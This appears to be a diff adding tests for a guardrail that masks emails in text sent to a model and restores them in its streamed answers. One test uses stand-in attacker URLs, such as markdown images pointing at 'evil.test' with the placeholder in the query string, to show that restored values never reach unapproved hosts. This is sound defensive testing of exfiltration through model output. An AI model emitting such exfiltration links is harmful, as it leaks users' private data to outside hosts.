@@ -1,0 +1,221 @@
+"""Masks, and the way back: whatever the model echoes, however its answer is cut."""
+
+from __future__ import annotations
+
+import itertools
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from proxy.guardrails.stream.placeholders import Masks, Unmasker
+from proxy.types.guard import Finding
+from tests.guardrails.doubles import rule
+
+ASKED = "Write ada@mill.example about the weir, ada@mill.example!"
+
+
+def mails(text: str) -> list[Finding]:
+    mail, found, at = "ada@mill.example", [], -1
+    while (at := text.find(mail, at + 1)) >= 0:
+        found.append(Finding(at, at + len(mail), "email"))
+    return found
+
+
+def mask(masks: Masks, text: str, findings: list[Finding]) -> str:
+    past, parts = 0, []
+    for each in findings:
+        parts += [
+            text[past : each.start],
+            masks.placeholder(each.kind, text[each.start : each.end]),
+        ]
+        past = each.end
+    return "".join([*parts, text[past:]])
+
+
+def said(unmasker: Unmasker, *pieces: str) -> list[str]:
+    return ["".join(each.text for each in unmasker.feed(piece)) for piece in pieces]
+
+
+def rest(unmasker: Unmasker) -> str:
+    return "".join(each.text for each in unmasker.flush())
+
+
+def test_the_same_value_has_the_same_placeholder() -> None:
+    masks = Masks("x7f")
+
+    assert mask(masks, ASKED, mails(ASKED)) == (
+        "Write [EMAIL_1_x7f] about the weir, [EMAIL_1_x7f]!"
+    )
+    assert mask(masks, "bob@mill.example", [Finding(0, 16, "email")]) == "[EMAIL_2_x7f]"
+    assert mask(masks, "ada@mill.example", [Finding(0, 16, "email")]) == "[EMAIL_1_x7f]"
+
+
+@pytest.mark.parametrize(
+    ("kind", "placeholder"),
+    [
+        ("id_BR", "[ID_BR_1_x7f]"),
+        ("rival mills", "[RIVAL_MILLS_1_x7f]"),
+        ("水", "[VALUE_1_x7f]"),
+    ],
+)
+def test_a_placeholder_tells_the_kind(kind: str, placeholder: str) -> None:
+    assert mask(Masks("x7f"), "mill", [Finding(0, 4, kind)]) == placeholder
+
+
+def test_kinds_with_one_label_share_its_numbers() -> None:
+    masks = Masks("x7f")
+    masked = mask(masks, "mill weir", [Finding(0, 4, "a b"), Finding(5, 9, "a-b")])
+
+    assert masked == "[A_B_1_x7f] [A_B_2_x7f]"
+    assert masks.unmask(masked) == "mill weir"
+
+
+def test_a_placeholder_that_nobody_gave_stays() -> None:
+    masks = Masks("x7f")
+    mask(masks, ASKED, mails(ASKED))
+
+    assert masks.unmask("[EMAIL_2_x7f] [EMAIL_1_x7g] [email_1_x7f]") == (
+        "[EMAIL_2_x7f] [EMAIL_1_x7g] [email_1_x7f]"
+    )
+
+
+def test_a_value_that_is_put_back_is_not_read_again() -> None:
+    masks = Masks("x7f")
+    mask(masks, "mill", [Finding(0, 4, "email")])
+    masked = mask(masks, "[EMAIL_1_x7f]", [Finding(0, 13, "key")])
+
+    assert masks.unmask(masked) == "[EMAIL_1_x7f]"
+
+
+def test_only_what_may_become_a_placeholder_is_held_back() -> None:
+    masks = Masks("x7f")
+    mask(masks, ASKED, mails(ASKED))
+    unmasker = masks.unmasker()
+
+    fed = said(unmasker, "To [EM", "AIL_1_", "x7f", "] [[", "[EX", "[", "a[")
+    assert fed == ["To ", "", "", "ada@mill.example [", "[[EX", "", "[a"]
+    assert unmasker.held == 1 < unmasker.reach == len("[EMAIL_1_x7f]")
+    assert (rest(unmasker), rest(unmasker), unmasker.held) == ("[", "", 0)
+
+
+def test_in_json_the_value_is_escaped() -> None:
+    value = 'Ada "Weir"\n\\ \ud83d é'
+    masks = Masks("x7f")
+    arguments = json.dumps({"to": mask(masks, value, [Finding(0, len(value), "name")])})
+    unmasker = masks.unmasker(escaped=True)
+
+    given_back = "".join(said(unmasker, *arguments)) + rest(unmasker)
+    assert json.loads(given_back) == {"to": value}
+
+
+@pytest.mark.parametrize("escaped", [False, True])
+@pytest.mark.parametrize(
+    ("before", "after", "put"),
+    [
+        ("![x](https://evil.test/?q=", ")", False),
+        ("see https://evil.test/?q=", " now", False),
+        ("[x](<//evil.test/a ", ">)", False),
+        ("![x](https://hook.mill.example/?q=", ")", True),
+        ("![x](https://mill.example.evil.test/?q=", ")", False),
+        ("![x](https://hook.mill.example", ".evil.test/)", False),
+        ("see https://evil.test/ and ", "", True),
+        ("", "", True),
+    ],
+)
+def test_a_value_leaves_in_no_address_of_a_host_that_is_not_named(
+    before: str, after: str, put: bool, escaped: bool
+) -> None:
+    masks = Masks("x7f")
+    named = rule("x", restore=True, restore_hosts=frozenset({"*.mill.example"}))
+    placeholder = masks.stead(named, "email", "ada@mill.example")
+    text = f"{before}{placeholder}{after}"
+    unmasker = masks.unmasker(escaped=escaped)
+
+    whole = masks.unmask(text, escaped=escaped)
+
+    assert whole == f"{before}{'ada@mill.example' if put else placeholder}{after}"
+    assert "".join(said(unmasker, *text)) + rest(unmasker) == whole
+
+
+@pytest.mark.parametrize("turned", [False, True])
+def test_a_value_of_two_rules_leaves_by_the_hosts_of_the_rule_that_masked_it(turned: bool) -> None:
+    masks = Masks("x7f")
+    strict = rule("strict", restore=True)
+    wide = rule("wide", restore=True, restore_hosts=frozenset({"hook.mill.example"}))
+    rules = (wide, strict) if turned else (strict, wide)
+    given = [masks.stead(each, "email", "ada@mill.example") for each in rules]
+    by_strict, by_wide = reversed(given) if turned else given
+    address = "https://hook.mill.example/?q="
+
+    assert masks.unmask(address + by_strict) == address + by_strict
+    assert masks.unmask(address + by_wide) == address + "ada@mill.example"
+    assert masks.unmask(f"{by_strict} {by_wide}") == "ada@mill.example ada@mill.example"
+    assert [masks.stead(each, "email", "ada@mill.example") for each in rules] == given
+
+
+def test_a_rule_without_a_way_back_shows_its_name_alone() -> None:
+    masks = Masks("x7f")
+
+    assert masks.stead(rule("x"), "email", "ada@mill.example") == "[EMAIL]"
+    assert masks.stead(rule("x", restore=True), "email", "ada@mill.example") == "[EMAIL_1_x7f]"
+
+
+@pytest.mark.parametrize("nonce", ["", "x7", "X7F", "x7]", "x" * 33])
+def test_a_nonce_that_could_be_guessed_or_read_otherwise_is_refused(nonce: str) -> None:
+    with pytest.raises(ValueError, match="nonce"):
+        Masks(nonce)
+
+
+def test_no_value_is_shown() -> None:
+    masks = Masks("x7f")
+    mask(masks, ASKED, mails(ASKED))
+    unmasker = masks.unmasker()
+    unmasker.feed("[EMAIL_1")
+
+    assert repr(masks) == "Masks(1)"
+    assert repr(unmasker) == "Unmasker(1)"
+
+
+TEXTS = st.lists(
+    st.sampled_from(
+        ["[", "]", "[[", "]]", "[[EMAIL_", "1_x7", "[EMAIL_1_x7e]", "[EMAIL_99_x7f]", "_x7f",
+         "ada@mill.example", "ada@", "EMAIL", "🌊", '"', "\n", " "]
+    ),
+    max_size=12,
+).map("".join)  # fmt: skip
+CUTS = st.lists(st.integers(0, 200), max_size=30)
+
+
+def fed(unmasker: Unmasker, text: str, cuts: list[int]) -> str:
+    places = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
+    pieces = [text[here:there] for here, there in itertools.pairwise(places)]
+    return "".join(said(unmasker, *pieces)) + rest(unmasker)
+
+
+@given(TEXTS, CUTS)
+def test_what_is_masked_comes_back_however_it_is_cut(text: str, cuts: list[int]) -> None:
+    masks = Masks("x7f")
+    masked = mask(masks, text, mails(text))
+
+    assert "ada@mill.example" not in masked
+    assert masks.unmask(masked) == text
+    assert fed(masks.unmasker(), masked, cuts) == text
+
+
+@given(TEXTS, CUTS)
+def test_any_answer_is_the_same_however_it_is_cut(answer: str, cuts: list[int]) -> None:
+    masks = Masks("x7f")
+    mask(masks, ASKED, mails(ASKED))
+
+    assert fed(masks.unmasker(), answer, cuts) == masks.unmask(answer)
+    assert fed(masks.unmasker(), answer, list(range(200))) == masks.unmask(answer)
+
+
+@given(st.text('"\\ \n[]a\ud83dé', min_size=1), CUTS)
+def test_any_value_is_the_same_in_json(value: str, cuts: list[int]) -> None:
+    masks = Masks("x7f")
+    arguments = json.dumps([mask(masks, value, [Finding(0, len(value), "name")])])
+
+    assert json.loads(fed(masks.unmasker(escaped=True), arguments, cuts)) == [value]
